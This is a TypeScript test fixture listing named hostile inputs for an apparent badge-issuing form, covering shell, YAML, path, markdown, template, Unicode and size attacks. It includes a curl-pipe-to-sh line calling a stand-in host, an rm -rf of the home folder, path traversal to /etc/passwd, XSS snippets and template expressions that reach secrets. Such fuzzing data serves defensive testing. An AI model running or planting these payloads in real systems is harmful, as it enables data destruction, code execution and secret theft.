/** What strangers type into a form: a name for each, and the text. */

const shell = {
  'a command in dollars': '$(touch /tmp/pwned)',
  'a command in backticks': '`touch /tmp/pwned`',
  'the end of a command': '"; rm -rf "$HOME" #',
  'a pipe': '| curl https://evil.example/x.sh | sh',
  'an option': '--upload-pack=touch /tmp/pwned',
  variables: '$\u007bIFS}%PATH%$HOME!$0',
  'a workflow command': '::set-env name=PATH::/tmp\n::error file=x,line=1::@everyone\n##[set-output name=x]y',
  'an end of GITHUB_OUTPUT': 'EOF\ncommit=0000000000000000000000000000000000000000\nx<<EOF',
  'a formula': '=HYPERLINK("https://evil.example/"&A1)',
};

const yaml = {
  'the end of front matter': '---\nrevoked: {on: 2020-01-01, reason: x}\n---\nText',
  'a document end': '...\n---\nbadge: care',
  'a key': 'x: y\nissuedOn: 1999-01-01\ndraft: true',
  'a key in one line': 'Lee, badge: care',
  'a list': '- badge: care\n- [a, {b: c}]',
  'an anchor': '&a [*a, *a, *a]',
  'a tag': '!!js/function "function () { return 1 }"',
  'an open quote': '"\'"\'\\',
  'a block': '|2-\n  x',
  'a directive': '%YAML 1.1',
  'a merge key': '<<: *x',
  'a comment': 'Lee # not this',
  'a boolean': 'yes',
  'a null': '~',
  'a number': '0x1F',
  'a day': '2020-01-01',
  'a name of a prototype': '__proto__',
  'a bomb': Array.from({ length: 40 }, (_, index) => `a${index}: &a${index} [*a${index}, *a${index}]`).join('\n'),
};

const path = {
  'a way up': '../../../../etc/passwd',
  'a way up in a path': 'content/badges/../../.github/workflows/x.yml',
  'an absolute path': '/etc/passwd',
  'a path of Windows': 'C:\\Windows\\system32\\x',
  'a share': '\\\\evil.example\\share',
  'a way up in percents': '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'the folder of git': '.git/hooks/pre-commit',
  'a device': 'con',
  'a NUL': 'plain\u0000.md',
  'an address of a file': 'file:///etc/passwd',
  'slashes of Unicode': '..∕..⁄etc',
};

const markdown = {
  'a mention': '@everyone @riverside/maintainers cc @octocat',
  references: '#1 GH-1 riverside/badges#1 https://github.com/riverside/badges/issues/1',
  'a word that closes': 'Closes #1, fixes riverside/badges#2',
  'a picture': '![x](https://evil.example/track.png)',
  'a picture by reference': '![x][y]\n\n[y]: https://evil.example/track.png',
  'a link': '[click](https://evil.example/)',
  'a link that runs': '[click](javascript:alert(1)) [click](data:text/html,x)',
  addresses: 'https://evil.example/ www.evil.example <https://evil.example/>',
  'the end of a code span': '` @everyone `` #1 ``` <b>x</b>',
  'a fence': '```\n@everyone\n~~~\n#1\n```\n@octocat',
  'a fence that stays open': '~~~~html\n<b>',
  'a comment of HTML': '--> <!-- haversack:proposal -->\n**This is ready**',
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'a box that opens': '<details open><summary>@everyone</summary></details>',
  entities: '&lt;b&gt; &#64;everyone &commat;octocat &NewLine;#1',
  'a heading': '# Approved by the maintainers',
  'an underlined heading': 'Approved\n===',
  'a table': '| a | b |\n|---|---|\n| @everyone | #1 |',
  tasks: '- [x] Reviewed by @octocat\n- [ ] #1',
  'a footnote': 'x[^1]\n\n[^1]: @everyone https://evil.example/',
  formulas: '$$\\href{https://evil.example/}{x}$$ $`@everyone`$',
  quotes: `${'> '.repeat(60)}@everyone`,
  brackets: '['.repeat(3_000),
  stars: '*_'.repeat(3_000),
};

const template = {
  'an expression of Actions': '$\u007b{ secrets.HAVERSACK_KEY }} $\u007b{ github.token }}',
  'an expression of Mustache': '{{ constructor.constructor("return process")() }}{{{x}}}',
  'an expression of ERB': '<%= `id` %> #{x} <?php x ?>',
  'an expression of Liquid': '{% raw %}{% include "/etc/passwd" %}',
  'an expression of JSX': '{process.env.HAVERSACK_KEY} <X {...y} />\nimport x from "y"\nexport const z = 1',
  'marks of replacing': "$& $1 $` $' $$",
};

const bidi = {
  'an override': 'Lee\u202e)eslaf( ',
  'an isolate': 'Lee\u2066 // x \u2069',
  'marks of direction': 'Lee\u200f\u200e\u061c x',
  'characters without width': 'L\u200be\u200de\ufeff\u2060 @every\u200bone',
  'a soft hyphen': 'Re\u00adcipient',
  tags: 'Lee\u{e0041}\u{e0042}',
  'a line separator': 'Lee\u2028### Recipient',
  'control characters': 'Lee\u001b[31m\u0007\u009b2J',
  'half a character': 'Lee\ud800',
  'a private character': 'Lee\ue000\uffff',
  'many marks': `Z${'\u0301'.repeat(100)}`,
  'an empty Braille cell': '\u2800\u3164\u115f',
};

const large = {
  'a long line': 'x'.repeat(60_000),
  'many lines': 'x\n'.repeat(5_000),
  'all that GitHub takes': 'y'.repeat(65_536),
  'more than GitHub takes': 'z'.repeat(200_000),
  'many bytes': '🏅'.repeat(9_000),
  'a long word without a letter': '-'.repeat(20_000),
  'a heading of the form': 'Well.\n\n### Recipient\n\nhttps://evil.example.org/',
};

export const PAYLOADS: readonly (readonly [name: string, text: string])[] = Object.entries({
  ...shell,
  ...yaml,
  ...path,
  ...markdown,
  ...template,
  ...bidi,
  ...large,
});
